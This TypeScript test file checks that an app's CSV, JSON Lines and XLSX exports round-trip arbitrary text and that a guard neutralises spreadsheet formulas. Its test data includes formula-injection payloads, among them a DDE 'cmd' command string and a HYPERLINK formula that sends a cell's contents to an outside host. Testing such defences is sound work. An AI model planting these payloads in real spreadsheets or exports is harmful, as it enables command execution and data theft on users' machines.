import { mkdtempSync, rmSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { afterAll, describe, expect, test } from 'vitest';
import { hostileMarkup } from '../../../../test/helpers/hostile-texts.ts';
import { openOutput } from '../output-file.ts';
import { rawTexts, type WrittenColumn } from './cell-text.ts';
import type { Cells, RowBatches } from './format.ts';
import { guarded, unguarded } from './guard.ts';
import { writeCsv } from './write-csv.ts';
import { writeJsonl } from './write-jsonl.ts';
import { writeXlsx } from './write-xlsx.ts';

const folder = mkdtempSync(join(tmpdir(), 'earshot-formats-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const COLUMNS: WrittenColumn[] = [
  { id: 'text', header: 'Text', type: 'text' },
  { id: 'count', header: 'Count', type: 'integer' },
  { id: 'at', header: 'At', type: 'instant' },
];
const STYLE = { timeZone: 'UTC', locale: 'en-GB', texts: { yes: 'Yes', no: 'No' } };

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.com?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＠x',
  '+A1',
  '-A1',
];
const PHONES = [
  '+212612345678',
  '+212 6 12 34 56 78',
  '+1 (415) 555-0134',
  '+1-415-555-0134',
  '-5',
  '-0.25',
  '0612345678',
];
const ODD = [
  '',
  ' ',
  '"',
  '""',
  "'",
  ',',
  ';',
  '\t',
  '\r\n',
  'a\nb',
  'سلمى "الإدريسي"',
  '\uFEFFx',
  '_x000D_',
  'x\u0001y',
  '\uD800',
];

const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(...FORMULAS, ...PHONES, ...ODD, ...hostileMarkup('http://127.0.0.1:9').slice(0, 20)),
);
const anyRow = fc.record({
  text: fc.oneof({ weight: 5, arbitrary: anyText }, { weight: 1, arbitrary: fc.constant(null) }),
  count: fc.oneof(fc.integer(), fc.constant(null)),
  at: fc.oneof(fc.integer({ min: 0, max: 4_102_444_800_000 }), fc.constant(null)),
});

async function* batchesOf(rows: readonly Cells[]): RowBatches {
  for (let from = 0; from < rows.length; from += 3) yield rows.slice(from, from + 3);
}

let files = 0;
async function written(write: (sink: Awaited<ReturnType<typeof openOutput>>) => Promise<void>): Promise<string> {
  const path = join(folder, `${files++}`);
  const file = await openOutput(path);
  await write(file);
  await file.finish();
  return path;
}

describe('the guard', () => {
  test.each(FORMULAS)('puts an apostrophe before %j', (text) => expect(guarded(text)).toBe(`'${text}`));
  test.each(PHONES)('leaves %j as it is', (text) => expect(guarded(text)).toBe(text));

  test('leaves no text that a spreadsheet would run, and can be taken back', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const safe = guarded(text);
        expect(unguarded(safe)).toBe(text);
        if (!/^[+-]?\d[\d .()/-]*$/.test(safe) && !/^\+\d/.test(safe))
          expect(safe.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('any texts come back from', () => {
  test.each([',', ';', '\t'] as const)('CSV parted by %j, by another parser', async (separator) => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyRow, { maxLength: 12 }), async (rows) => {
        const path = await written((sink) =>
          writeCsv(batchesOf(rows.map(({ text, count, at }) => [text, count, at])), sink, {
            columns: COLUMNS,
            style: { separator, hasMark: true, isGuarded: true },
            cellText: rawTexts(STYLE),
            isFormatted: false,
          }),
        );
        const [head, ...lines] = parse(await readFile(path), { bom: true, delimiter: separator }) as string[][];
        expect(head).toEqual(['Text', 'Count', 'At']);
        expect(lines.map(([text = '', ...rest]) => [unguarded(text), ...rest])).toEqual(
          rows.map(({ text, count, at }) => [
            text?.toWellFormed() ?? '',
            count === null ? '' : String(count),
            at === null ? '' : new Date(at).toISOString(),
          ]),
        );
      }),
      { numRuns: 60 },
    );
  });

  test('JSON Lines', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyRow, { maxLength: 12 }), async (rows) => {
        const path = await written((sink) =>
          writeJsonl(batchesOf(rows.map(({ text, count, at }) => [text, count, at])), sink, COLUMNS),
        );
        const lines = (await readFile(path, 'utf8')).split('\n').slice(0, -1);
        expect(lines.map((line) => JSON.parse(line))).toEqual(
          rows.map(({ text, count, at }) => ({
            text: text?.toWellFormed() ?? null,
            count,
            at: at === null ? null : new Date(at).toISOString(),
          })),
        );
      }),
      { numRuns: 60 },
    );
  });

  test('XLSX, as texts and never as formulas', async () => {
    // What no XML can hold is written in the way of workbooks, which this reader does not undo; it also trims.
    const plain = anyText.filter(
      (text) => /^[\x20-\x7e\u00a1-\u06ff]+$/.test(text) && !text.includes('_x') && text.trim() === text,
    );
    await fc.assert(
      fc.asyncProperty(fc.array(plain, { minLength: 1, maxLength: 12 }), async (texts) => {
        const path = await written((sink) =>
          writeXlsx(batchesOf(texts.map((text): Cells => [text, 1, null])), sink, {
            columns: COLUMNS,
            style: STYLE,
            sheetName: "It's [a] list: of */things?",
            rowCount: texts.length,
          }),
        );
        const [, ...rows] = await readSheet(path);
        expect(rows.map(([text]) => text)).toEqual(texts);
      }),
      { numRuns: 40 },
    );
  });
});

test('a workbook goes on in a next sheet, under the same header', async () => {
  const rows = Array.from({ length: 25 }, (_, index): Cells => [`row ${index}`, index, null]);
  const path = await written((sink) =>
    writeXlsx(batchesOf(rows), sink, {
      columns: COLUMNS,
      style: STYLE,
      sheetName: 'People',
      rowCount: 25,
      maxRowsPerSheet: 11,
    }),
  );
  const sheets = await Promise.all([1, 2, 3].map((number) => readSheet(path, number)));
  expect(sheets.map(([head]) => head)).toEqual([1, 2, 3].map(() => ['Text', 'Count', 'At']));
  expect(sheets.flatMap(([, ...body]) => body.map(([, count]) => count))).toEqual(rows.map(([, count]) => count));
});
